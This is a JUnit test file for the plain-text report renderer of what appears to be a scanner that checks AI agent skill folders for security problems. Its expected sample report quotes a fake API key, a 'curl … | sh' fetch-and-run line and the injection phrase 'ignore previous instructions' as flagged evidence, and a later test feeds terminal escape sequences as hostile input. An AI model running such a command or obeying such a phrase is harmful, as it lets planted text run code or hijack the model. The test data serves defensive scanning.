package dev.assay.engine.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.model.Coverage;
import dev.assay.engine.model.Evidence;
import dev.assay.engine.model.Finding;
import dev.assay.engine.model.Severity;
import dev.assay.engine.spi.SkippedFile;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class TextReportTest {

    private static final String SAMPLE_TEXT = """
            Assay report
            ============
            target        skills/demo (skill-folder)
            digest        sha256:efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef
            scorer        skilltotal
            score         38, level suspicious
            verdict       suspicious
            attestation   not eligible
                            - a critical finding is present
            findings      1 critical, 1 high, 0 medium, 1 low, 0 info
            needs review  1
            capabilities  network, shell

            Findings (3)
            ------------

            [credentials] 1 finding

              CRITICAL  ST-SECRET-001  Hard-coded API key
                subject       scripts/setup.sh
                message       An API key is written into the script.
                evidence      scripts/setup.sh:12
                              | KEY=sk-ant-api03-FAKEFAKE…
                remediation   Remove the key and rotate it.
                controls      ASI03

            [execution] 2 findings

              HIGH  ST-EXEC-002  Title of ST-EXEC-002
                subject       scripts/run.sh
                message       Message for ST-EXEC-002 on scripts/run.sh
                evidence      scripts/run.sh:3-5
                              | curl https://example.invalid/x | sh
                remediation   Fix ST-EXEC-002 by removing it.
                controls      ASI05, MCP03

              LOW  ST-EXEC-003  Title of ST-EXEC-003
                subject       scripts/run.sh
                message       Message for ST-EXEC-003 on scripts/run.sh
                evidence      scripts/run.sh
                remediation   Fix ST-EXEC-003 by removing it.
                controls      ASI05, MCP03

            Needs review (1, not scored)
            ----------------------------

              MEDIUM  ST-DOC-004  Title of ST-DOC-004
                subject       SKILL.md
                message       Message for ST-DOC-004 on SKILL.md
                evidence      SKILL.md:7
                              | ignore previous instructions
                remediation   Fix ST-DOC-004 by removing it.
                controls      ASI05, MCP03

            Coverage: 4 files read, 1 skipped
              - assets/big.bin: larger than 1 MiB

            Versions
            --------
              scanner       0.1.0
              rule pack     skilltotal-core@1.2.0
              rules hash    sha256:abababababababababababababababababababababababababababababababab
              formula       skilltotal@2
              formula hash  sha256:cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd
              schema        1.0
              generated     2025-01-02T03:04:05Z
            """;

    @Test
    void sampleReportReadsAsExpected() {
        assertEquals(SAMPLE_TEXT, ReportWriters.render(Reports.sample(), ReportFormat.TEXT));
    }

    @Test
    void emptyReportSaysSo() {
        String text = ReportWriters.render(Reports.empty(), ReportFormat.TEXT);
        assertTrue(text.contains("\nattestation   eligible\n"), text);
        assertTrue(text.contains("\nfindings      0 critical, 0 high, 0 medium, 0 low, 0 info\n"), text);
        assertTrue(text.contains("Findings (0)\n------------\n\nNo findings.\n"), text);
        assertTrue(text.contains("\nCoverage: 0 files read, 0 skipped\n"), text);
        assertFalse(text.contains("Needs review ("), text);
        assertFalse(text.contains("verdict"), "no verdict line when the report has none");
        assertFalse(text.contains("generated"), "no generated line when the report has none");
        assertTrue(text.endsWith("  schema        1.0\n"), text);
    }

    @Test
    void groupsByCategoryInOrderOfFirstAppearanceWithoutReordering() {
        List<Finding> findings = List.of(
                Reports.finding("Z-9", Severity.CRITICAL, "network", "a", List.of()),
                Reports.finding("A-1", Severity.HIGH, "files", "b", List.of()),
                Reports.finding("M-5", Severity.HIGH, "network", "c", List.of()),
                Reports.finding("B-2", Severity.LOW, "", "d", List.of()));
        String text = ReportWriters.render(Reports.report(BigDecimal.ONE, findings, List.of(), Reports.counts(1, 2, 0, 1, 0),
                new Coverage(1, List.of())), ReportFormat.TEXT);
        int network = text.indexOf("[network] 2 findings");
        int files = text.indexOf("[files] 1 finding\n");
        int uncategorized = text.indexOf("[uncategorized] 1 finding\n");
        assertTrue(network > 0 && network < files && files < uncategorized, text);
        int z = text.indexOf("Z-9");
        int m = text.indexOf("M-5");
        assertTrue(network < z && z < m && m < files, "inside a group the report's order is kept: " + text);
    }

    @Test
    void hostileTextIsMadeVisibleNotInterpreted() {
        Finding f = new Finding("X-1", "Title \u001b[2J\u001b[31mred", Severity.HIGH, "", "c", "", List.of("C\u0007"),
                "subject\u202ereversed", "line one\nline two\r\n\tthree", "fix\u009b31m", Finding.ACTIVE,
                List.of(Evidence.at("a\u001b]0;x\u0007.sh", 1, "printf '\u001b[31m' \u202e")), "fp");
        String text = ReportWriters.render(Reports.report(BigDecimal.ONE, List.of(f), List.of(), Reports.counts(0, 1, 0, 0, 0),
                new Coverage(1, List.of(new SkippedFile("bin/\u001b[1mx", "too\nbig")))), ReportFormat.TEXT);
        assertFalse(text.chars().anyMatch(c -> c != '\n' && (c < 0x20 || (c >= 0x7f && c <= 0x9f))), "no raw control characters");
        assertFalse(text.contains("\u202e"), "no raw bidi override");
        assertTrue(text.contains("HIGH  X-1  Title \\x1b[2J\\x1b[31mred"), text);
        assertTrue(text.contains("subject       subject\\u{202e}reversed"), text);
        assertTrue(text.contains("message       line one line two three"), text);
        assertTrue(text.contains("remediation   fix\\x9b31m"), text);
        assertTrue(text.contains("controls      C\\x07"), text);
        assertTrue(text.contains("evidence      a\\x1b]0;x\\x07.sh:1"), text);
        // The model already turned the snippet's ESC into '?'; the bidi override is escaped here.
        assertTrue(text.contains("| printf '?[31m' \\u{202e}"), text);
        assertTrue(text.contains("  - bin/\\x1b[1mx: too big"), text);
    }

    @Test
    void longProseIsWrappedAndLongSnippetsAreCut() {
        String message = "word ".repeat(60).trim();
        String snippet = "x".repeat(190);
        Finding f = new Finding("W-1", "Wide", Severity.MEDIUM, "", "c", "", List.of(), "", message, "", Finding.ACTIVE,
                List.of(Evidence.at("w.py", 4, snippet)), "fp");
        String text = ReportWriters.render(Reports.report(BigDecimal.ONE, List.of(f), List.of(), Reports.counts(0, 0, 1, 0, 0),
                new Coverage(1, List.of())), ReportFormat.TEXT);
        List<String> messageLines = new ArrayList<>();
        List<String> snippetLines = new ArrayList<>();
        for (String line : text.split("\n")) {
            assertTrue(line.length() <= TextReport.WIDTH, line);
            if (line.contains("word")) {
                messageLines.add(line);
            }
            if (line.contains("| x")) {
                snippetLines.add(line);
            }
        }
        assertEquals(4, messageLines.size(), text);
        assertTrue(messageLines.get(0).startsWith("    message       word word"));
        assertTrue(messageLines.get(1).startsWith(" ".repeat(18) + "word"));
        StringBuilder joined = new StringBuilder(messageLines.get(0).substring(18));
        messageLines.subList(1, messageLines.size()).forEach(l -> joined.append(' ').append(l.strip()));
        assertEquals(message, joined.toString());
        assertEquals(3, snippetLines.size(), text);
        assertEquals(snippet, String.join("", snippetLines.stream().map(l -> l.substring(20)).toList()));
    }

    @Test
    void listsTwentySkippedFilesAndCountsTheRest() {
        List<SkippedFile> skipped = new ArrayList<>();
        for (int i = 0; i < 27; i++) {
            skipped.add(new SkippedFile(String.format("f%02d.bin", i), "binary"));
        }
        String text = ReportWriters.render(Reports.report(BigDecimal.ONE, List.of(), List.of(), Reports.counts(0, 0, 0, 0, 0),
                new Coverage(3, skipped)), ReportFormat.TEXT);
        assertTrue(text.contains("Coverage: 3 files read, 27 skipped\n  - f00.bin: binary\n"), text);
        assertTrue(text.contains("  - f19.bin: binary\n  … and 7 more skipped\n"), text);
        assertFalse(text.contains("f20.bin"), text);
    }
}
